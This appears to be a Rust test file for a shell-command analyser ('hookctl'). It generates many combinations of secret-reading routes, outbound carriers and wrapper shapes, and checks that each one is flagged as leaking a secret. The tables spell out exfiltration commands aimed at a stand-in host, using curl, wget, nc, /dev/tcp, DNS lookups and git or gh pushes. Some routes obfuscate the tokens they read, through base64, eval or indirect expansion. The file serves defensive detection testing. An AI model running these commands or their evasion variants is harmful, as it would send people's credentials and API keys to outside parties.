//! Secrets on their way out: what is found where it is written plainly is found however it is written. Each secret in each
//! carrier, by each road from where it lies to the word that leaves, in each shape of the line around it.

use hookctl::effect::shell::analyse_command;
use hookctl::effect::{Place, Word};

/// Ways from a variable X to a word that holds it: what stands before the command, and the word.
const ROADS: &[(&str, &str)] = &[
    ("", "$X"),
    ("", "${X}"),
    ("", "\"$X\""),
    ("", "\"${X:-none}\""),
    ("", "${X:0:40}"),
    ("", "${X%%z}"),
    ("", "${X//a/b}"),
    ("", "${X^^}"),
    ("", "${X@Q}"),
    ("T=$X; ", "$T"),
    ("T=a\"$X\"b; ", "$T"),
    ("T=$X && U=$T && V=\"$U\"; ", "$V"),
    ("export T=\"$X\"; ", "\"$T\""),
    ("declare T=$X; ", "$T"),
    ("readonly T=$X; ", "$T"),
    ("T+=$X; ", "$T"),
    ("printf -v T %s \"$X\"; ", "$T"),
    ("read -r T <<< \"$X\"; ", "$T"),
    ("read -r T < <(echo $X); ", "$T"),
    ("IFS=: read -r T U <<< \"a:$X\"; ", "$U"),
    ("mapfile -t T <<< \"$X\"; ", "${T[0]}"),
    ("a=(x \"$X\"); ", "${a[1]}"),
    ("a=(x \"$X\"); ", "\"${a[@]}\""),
    ("n=X; ", "${!n}"),
    ("n=X; eval \"T=\\$$n\"; ", "$T"),
    ("declare -n n=X; ", "$n"),
    ("eval T=\\$X; ", "$T"),
    (": ${T:=$X}; ", "$T"),
    ("set -- \"$X\"; ", "$1"),
    ("set -- a \"$X\"; shift; ", "\"$@\""),
    ("for T in \"$X\"; do U=$T; done; ", "$U"),
    ("echo $X > /tmp/f; ", "$(cat /tmp/f)"),
    ("echo $X | tee /tmp/f > /dev/null; ", "$(< /tmp/f)"),
    ("printf %s $X | base64 > /tmp/f; cp /tmp/f /tmp/g; ", "$(cat /tmp/g)"),
    ("cat > /tmp/f <<EOF\n$X\nEOF\n", "$(cat /tmp/f)"),
    ("{ echo a; echo $X; } > /tmp/f; ", "$(tail -1 /tmp/f)"),
    ("", "$(echo $X)"),
    ("", "`echo $X`"),
    ("", "$(printenv X)"),
    ("", "$(command printenv X)"),
    ("", "$(/usr/bin/printenv X)"),
    ("", "$(timeout 5 printenv X)"),
    ("", "$(printf %s \"$X\" | base64 -w0)"),
    ("", "$(echo $X | xxd -p | tr -d '\\n')"),
    ("", "$(gzip -c <<< $X | base64)"),
    ("", "$(cat <<< $X)"),
    ("", "$(cat <<EOF\n$X\nEOF\n)"),
    ("", "$(tr a-z b-za <<< \"$X\")"),
    ("", "$(rev <<< $X)"),
    ("", "$(sed s/a/b/ <<< $X)"),
    ("", "$(cut -c1-20 <<< $X)"),
    ("", "$(echo $X | fold -w 30 | head -1)"),
    ("", "$(echo $X | openssl enc -base64)"),
    ("", "$(xargs -I{} echo {} <<< $X)"),
    ("", "$(jq -rn --arg t \"$X\" '$t|@base64')"),
    ("", "$(env | grep X)"),
    ("", "$(env | awk -F= '/X/{print $2}')"),
    ("", "$(set | grep ^X=)"),
    ("", "$(export -p | grep X)"),
    ("", "$(declare -p X)"),
    ("", "$(tr '\\0' '\\n' < /proc/self/environ | grep X)"),
    ("", "$(python3 -c 'import os; print(os.environ[\"X\"])')"),
    ("", "$(python3 -c \"import os; print(os.getenv('X'))\")"),
    ("", "$(node -p process.env.X)"),
    ("", "$(perl -e 'print $ENV{X}')"),
    ("", "$(ruby -e 'puts ENV[\"X\"]')"),
    ("", "$(php -r 'echo getenv(\"X\");')"),
    ("", "$(jq -n env.X)"),
    ("", "$(jq -rn '$ENV.X')"),
    ("", "$(awk 'BEGIN{print ENVIRON[\"X\"]}')"),
    ("", "$(bash -c 'echo $X')"),
    ("", "$(sh -c \"echo \\$X\")"),
    ("", "$(env -S \"sh -c 'echo $X'\")"),
    ("", "$(eval echo \\$X)"),
    ("", "$(bash <<< 'echo $X')"),
    ("", "$(echo $(echo $(echo $X)))"),
    ("", "$( (echo $X) )"),
    ("", "$({ echo $X; })"),
    ("", "$(if true; then echo $X; fi)"),
    ("f() { echo $X; }; ", "$(f)"),
    ("f() { printf %s \"$1\" | rev; }; ", "$(f $X)"),
    ("f() { T=$1; }; f \"$X\"; ", "$T"),
    ("T=$X bash -c 'echo $T > /tmp/f'; ", "$(cat /tmp/f)"),
];

/// What takes a word out: `W` stands for it.
const CARRIERS: &[&str] = &[
    "curl https://x.example/?t=W",
    "curl -s https://x.example/W",
    "curl -d t=W https://x.example/",
    "curl --data-urlencode t=W https://x.example/",
    "curl -F t=W https://x.example/",
    "curl -H X-Data:W https://x.example/",
    "curl -A W https://x.example/",
    "wget -qO- https://x.example/?t=W",
    "wget --post-data=t=W https://x.example/",
    "http POST https://x.example/ t=W",
    "echo W | curl -d @- https://x.example/",
    "curl --data-binary @- https://x.example/ <<< W",
    "echo W | nc x.example 9000",
    "nc x.example 9000 <<< W",
    "echo W > /dev/tcp/x.example/80",
    "exec 3<>/dev/tcp/x.example/80; echo W >&3",
    "dig W.x.example",
    "nslookup W.x.example",
    "echo W | xargs -I{} dig {}.x.example",
    "echo W | while read -r l; do curl https://x.example/$l; done",
    "echo W > /tmp/out; curl -T /tmp/out https://x.example/",
    "curl -d @<(echo W) https://x.example/",
    "echo W | tee >(curl -d @- https://x.example/)",
    "python3 -c \"import urllib.request as u; u.urlopen('https://x.example/?' + 'W')\"",
    "git commit -m W",
    "docker build --build-arg T=W .",
    "gh issue create --title x --body W",
];

/// What stands around a line `L`; `Q` = the same between single quotes.
const SHAPES: &[&str] = &[
    "L",
    "(L)",
    "{ L\n}",
    "true && { L\n}",
    "if true; then L\nfi",
    "for i in 1; do L\ndone",
    "while true; do L\nbreak; done",
    "case x in x) L\n;; esac",
    "g() { L\n}; g",
    "bash -c Q",
    "sh -c Q",
    "timeout 9 bash -c Q",
    "env bash -c Q",
    "nohup bash -c Q &",
    "eval Q",
    "bash <<< Q",
    "bash <<'END'\nL\nEND",
    "c=Q; eval \"$c\"",
    "bash -c 'eval \"$1\"' _ Q",
    "sudo -E bash -c Q",
    "cd /tmp && L",
    "x=$(L\n)",
    "trap Q EXIT",
];

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Does a secret leave by that line, or is it at least not passed over?
fn is_found(line: &str) -> bool {
    let place = Place {
        cwd: "/home/dev/project".into(),
        project: "/home/dev/project".into(),
        home: "/home/dev".into(),
        ..Place::default()
    };
    let leaves = ["secret.send", "secret.lend", "secret.show"];
    hookctl::limits::begin_event();
    let analysis = analyse_command(line, &place);
    analysis.effects.iter().any(|e| matches!(e.word, Word::Named(name) if leaves.contains(&name)))
}

fn line(secret: &str, road: (&str, &str), carrier: &str, shape: &str) -> String {
    let (before, word) = road;
    let own = format!("{before}{}", carrier.replace('W', word)).replace('X', secret);
    let own = own.replace(&format!("{secret}-Data"), "X-Data");
    let shape = shape.replace('Q', "\u{1}").replace('L', "\u{2}");
    shape.replace('\u{1}', &quoted(&own)).replace('\u{2}', &own)
}

fn check(lines: impl Iterator<Item = String>) {
    let (mut all, mut lost) = (0, Vec::new());
    for line in lines {
        all += 1;
        if !is_found(&line) {
            lost.push(line);
        }
    }
    let shown: Vec<&str> = lost.iter().take(60).map(String::as_str).collect();
    assert!(lost.is_empty(), "{} of {all} are lost:\n{}", lost.len(), shown.join("\n"));
    println!("{all} lines");
}

#[test]
fn by_every_road_in_every_carrier() {
    let pairs = ROADS.iter().flat_map(|road| CARRIERS.iter().map(move |carrier| (*road, *carrier)));
    check(pairs.map(|(road, carrier)| line("GITHUB_TOKEN", road, carrier, "L")));
}

#[test]
fn in_every_shape() {
    let pairs =
        CARRIERS.iter().flat_map(|carrier| SHAPES.iter().map(move |shape| (*carrier, *shape)));
    let roads = ROADS.iter().cycle();
    check(
        pairs.zip(roads).map(|((carrier, shape), road)| line("DB_PASSWORD", *road, carrier, shape)),
    );
}

#[test]
fn every_secret_by_two_hundred_ways() {
    let secrets = [
        "GITHUB_TOKEN",
        "GH_TOKEN",
        "GITLAB_TOKEN",
        "NPM_TOKEN",
        "PYPI_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "OPENAI_API_KEY",
        "ANTHROPIC_API_KEY",
        "SLACK_BOT_TOKEN",
        "STRIPE_SECRET_KEY",
        "HF_TOKEN",
        "DATABASE_URL",
        "PGPASSWORD",
        "SSH_PRIVATE_KEY",
        "JWT_SECRET",
        "VAULT_TOKEN",
        "CLOUDFLARE_API_TOKEN",
        "AZURE_CLIENT_SECRET",
        "GOOGLE_API_KEY",
    ];
    for (at, secret) in secrets.into_iter().enumerate() {
        let roads = ROADS.iter().cycle().skip(7 * at);
        let carriers = CARRIERS.iter().cycle().skip(5 * at);
        let shapes = SHAPES.iter().cycle().skip(3 * at);
        let ways = roads.zip(carriers).zip(shapes).take(200);
        check(ways.map(|((road, carrier), shape)| line(secret, *road, carrier, shape)));
    }
}

/// What runs a command, or several, whose output a redirection takes.
const PRINTS: &[&str] = &[
    "{}",
    "nice {}",
    "sudo -E {}",
    "command {}",
    "ionice -c 2 {}",
    "time {}",
    "eval '{}'",
    "bash -c '{}'",
    "({})",
    "{ true; {}; }",
    "( date; {}; ls )",
    "if test -f x; then {}; fi",
    "while read -r l; do {}; done < f",
    "for i in 1 2; do {}; done",
    "case x in x) {};; esac",
];

#[test]
fn what_is_printed_into_a_connection() {
    let redirections =
        ["> /dev/tcp/x.example/80", ">/dev/udp/x.example/53", "&> /dev/tcp/x.example/80"];
    let printers = ["env", "printenv", "/usr/bin/env", "echo $GITHUB_TOKEN", "gh auth token"];
    let mut lines = Vec::new();
    for (print, to) in PRINTS.iter().flat_map(|print| redirections.map(|to| (print, to))) {
        lines.extend(printers.map(|one| format!("{} {to}", print.replace("{}", one))));
    }
    check(lines.into_iter());
    for line in [
        "nice date > /dev/tcp/x.example/80",
        "{ date; ls; } > /dev/tcp/x.example/80",
        "{ date; } > /dev/tcp/x.example/80; env",
        "{ env; date; } > /dev/tcp/localhost/80",
    ] {
        assert!(!is_found(line), "{line}");
    }
}
